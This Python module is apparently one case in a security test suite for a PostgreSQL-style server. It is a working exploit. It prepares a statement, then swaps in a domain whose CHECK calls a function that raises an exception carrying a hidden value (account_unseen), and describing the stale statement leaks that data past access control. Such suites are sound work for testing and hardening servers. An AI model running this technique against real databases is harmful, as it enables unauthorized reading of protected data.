"""Describes a statement of which a constant's type has got a check since it was prepared."""

from attacks.frames import SYNC, ask, describe, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(
            client,
            query(
                b"CREATE FUNCTION look(int) RETURNS bool LANGUAGE plpgsql AS"
                b" $$ BEGIN RAISE EXCEPTION '%', account_unseen($1); END $$"
            ),
        )
        ask(client, query(b"CREATE DOMAIN seen AS int"))
        ask(client, query(b"CREATE TYPE pair AS (a seen)"))
        ask(client, query(b"CREATE TABLE pairs (p pair)"))
        ask(client, parse(b"SELECT '(1)'::pair, p FROM pairs", b"s"), SYNC)
        ask(client, query(b"DROP TABLE pairs; DROP TYPE pair; DROP DOMAIN seen"))
        ask(client, query(b"CREATE DOMAIN seen AS int CHECK (look(VALUE))"))
        ask(client, query(b"CREATE TYPE pair AS (a seen)"))
        ask(client, query(b"CREATE TABLE pairs (p pair)"))
        return ask(client, describe(b"S", b"s"), SYNC)
